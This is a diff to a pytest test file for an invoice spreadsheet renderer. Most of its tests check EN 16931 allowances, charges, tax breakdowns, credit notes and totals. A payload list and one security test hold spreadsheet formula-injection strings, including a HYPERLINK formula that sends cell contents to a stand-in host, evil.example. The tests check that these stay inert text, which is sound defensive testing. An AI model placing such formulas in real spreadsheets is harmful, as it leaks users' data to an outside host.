@@ -11,9 +11,16 @@ import pytest
 from openpyxl.cell.cell import Cell
 from openpyxl.worksheet.worksheet import Worksheet
 
-from invoices.document.model import Document, RenderOptions
+from invoices.document.model import Adjustment, Document, RenderOptions
 from invoices.document.validation import read_request
 from invoices.renderers.xlsx import CONTENT_TYPE, TABLE_HEADER, render_xlsx
+from tests.invoices.en16931_samples import (
+    credit_note_document,
+    jpy_document,
+    long_document,
+    rich_document,
+)
+from tests.invoices.en16931_samples import line as sample_line
 from tests.payloads import sample_payload, without_totals
 
 FORMULA_PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
@@ -188,3 +195,162 @@ def test_a_thousand_lines_render():
     line = {"description": "x", "quantity": "1", "unit_price": "1.10", "tax_rate": "20"}
     document, sheet, _ = render(without_totals(lines=[line] * 1000))
     assert number(sheet.cell(find(sheet, "Total (EUR)").row, 8)) == document.totals.gross
+
+
+# --- EN 16931 additions (issue 16) ---------------------------------------------------------------------
+
+
+def render_document(document: Document) -> Worksheet:
+    content = render_xlsx(document, RenderOptions(format="xlsx")).content
+    return openpyxl.load_workbook(io.BytesIO(content)).active
+
+
+@pytest.fixture(scope="module")
+def rich() -> tuple[Document, Worksheet]:
+    document = rich_document()
+    return document, render_document(document)
+
+
+def test_an_invoice_without_new_features_keeps_the_eight_columns(sample):
+    _, sheet, _ = sample
+    header = find(sheet, "SKU").row
+    assert sheet.cell(header, len(TABLE_HEADER) + 1).value is None
+
+
+def test_the_line_table_grows_the_columns_the_invoice_needs(rich):
+    document, sheet = rich
+    header = find(sheet, "SKU").row
+    headings = [sheet.cell(header, column).value for column in range(1, 14)]
+    assert headings == [
+        *TABLE_HEADER,
+        "Price per",
+        "Allowances",
+        "Charges",
+        "Allowance and charge reasons",
+        "Tax category",
+    ]
+    rows = list(range(header + 1, header + 6))
+    consulting, screws, cable = rows[:3]
+    assert sheet.cell(consulting, 4).value == "h"
+    assert sheet.cell(consulting, 6).value is None  # not one plain discount: the amounts say it
+    assert [number(sheet.cell(consulting, c)) for c in (8, 10, 11)] == [
+        Decimal("1093.75"),
+        Decimal("118.75"),
+        Decimal("25"),
+    ]
+    assert sheet.cell(consulting, 12).value == "Volume discount 10%; Travel"
+    assert sheet.cell(screws, 4).value == "pcs"
+    assert number(sheet.cell(screws, 9)) == 100
+    assert number(sheet.cell(cable, 11)) == Decimal("6.8")
+    assert [sheet.cell(row, 13).value for row in rows] == ["S", "S", "S", "AE", "E"]
+    for amount, row in zip(document.lines, rows, strict=True):
+        assert number(sheet.cell(row, 8)) == amount.net
+
+
+def test_document_allowances_and_charges_follow_the_lines_signed_so_the_net_column_adds_up(rich):
+    document, sheet = rich
+    early = find(sheet, "Early order")
+    assert sheet.cell(early.row, 1).value == "Allowance"
+    assert number(sheet.cell(early.row, 6)) == 2  # the percentage
+    assert number(sheet.cell(early.row, 8)) == Decimal("-64.13")
+    assert number(sheet.cell(find(sheet, "Loyalty").row, 8)) == Decimal("-50")
+    shipping = find(sheet, "Shipping")
+    assert (sheet.cell(shipping.row, 1).value, number(sheet.cell(shipping.row, 8))) == ("Charge", 15)
+    header = find(sheet, "SKU").row
+    net_column = [number(sheet.cell(row, 8)) for row in range(header + 1, shipping.row + 1)]
+    assert sum(net_column) == document.totals.net
+
+
+def test_totals_show_allowances_charges_prepaid_rounding_and_the_amount_due(rich):
+    document, sheet = rich
+    totals = document.totals
+    expected = [
+        ("Lines net", totals.lines_net),
+        ("Allowances", -totals.allowances),
+        ("Charges", totals.charges),
+        ("Net total", totals.net),
+        ("Tax total", totals.tax),
+        ("Total (EUR)", totals.gross),
+        ("Paid in advance", -totals.prepaid),
+        ("Rounding", totals.rounding),
+        ("Amount due (EUR)", totals.payable),
+    ]
+    first = find(sheet, "Lines net").row
+    for offset, (label, value) in enumerate(expected):
+        assert sheet.cell(first + offset, 7).value == label
+        assert number(sheet.cell(first + offset, 8)) == value
+    due = sheet.cell(first + len(expected) - 1, 8)
+    assert due.font.b
+    assert due.number_format == "#,##0.00"
+
+
+def test_the_tax_breakdown_names_each_category_and_its_legal_words(rich):
+    document, sheet = rich
+    first = find(sheet, "Tax breakdown").row + 1
+    for row, group in enumerate(document.totals.tax_groups, start=first):
+        assert sheet.cell(row, 4).value == group.category
+        assert [number(sheet.cell(row, c)) for c in (6, 7, 8)] == [group.rate, group.base, group.tax]
+    notes = [sheet.cell(row, 9).value for row in range(first, first + 4)]
+    assert notes == [
+        "Exempt from VAT: Exempt under Article 132(1)(i) Directive 2006/112/EC",
+        "Reverse charge: Article 196 Directive 2006/112/EC",
+        None,
+        None,
+    ]
+
+
+def test_heading_parties_and_payment_carry_the_new_fields(rich):
+    _, sheet = rich
+    for text in (
+        "Billing period",
+        "04011000-12345-67",
+        "PO-88213",
+        "80331 München",
+        "VAT ID: DE129273398",
+        "Tax number: 143/123/45678",
+        "Registration no.: HRB 123456 Amtsgericht München",
+        "Electronic address: 9930:DE129273398",
+        "Contact: Sabine Huber",
+        "SEPA credit transfer",
+        "Werkzeugbau Lindner GmbH",
+    ):
+        find(sheet, text)
+    period = find(sheet, "Billing period")
+    assert sheet.cell(period.row, 2).value == datetime(2026, 11, 1)
+    assert sheet.cell(period.row, 3).value == datetime(2026, 11, 30)
+
+
+def test_a_credit_note_is_titled_so_and_names_the_invoice_it_corrects():
+    sheet = render_document(credit_note_document())
+    assert sheet["A1"].value == "Credit note"
+    corrects = find(sheet, "Corrects invoice")
+    assert sheet.cell(corrects.row, 2).value == "RE-2026-1187"
+    assert sheet.cell(corrects.row, 3).value == datetime(2026, 11, 30)
+
+
+def test_yen_adjustments_are_whole_numbers():
+    document = jpy_document()
+    sheet = render_document(document)
+    due = sheet.cell(find(sheet, "Amount due (JPY)").row, 8)
+    assert (number(due), due.number_format) == (document.totals.payable, "#,##0")
+    assert number(sheet.cell(find(sheet, "Coupon").row, 8)) == -500
+
+
+@pytest.mark.security
+def test_formula_payloads_in_reasons_stay_inert_text():
+    payload = '=HYPERLINK("http://evil.example/","x")'
+    document = rich_document(
+        allowances=(Adjustment(amount=Decimal(1), reason=payload, tax_rate=Decimal(19)),),
+        lines=(sample_line("x", "1", "10.00", charges=(Adjustment(amount=Decimal(1), reason="@SUM(A1)"),)),),
+    )
+    sheet = render_document(document)
+    for text in (payload, "@SUM(A1)"):
+        cell = find(sheet, text)
+        assert cell.data_type == "s"
+        assert cell.quotePrefix
+
+
+def test_three_hundred_lines_with_adjustments_render():
+    document = long_document(300)
+    sheet = render_document(document)
+    assert number(sheet.cell(find(sheet, "Amount due (EUR)").row, 8)) == document.totals.payable
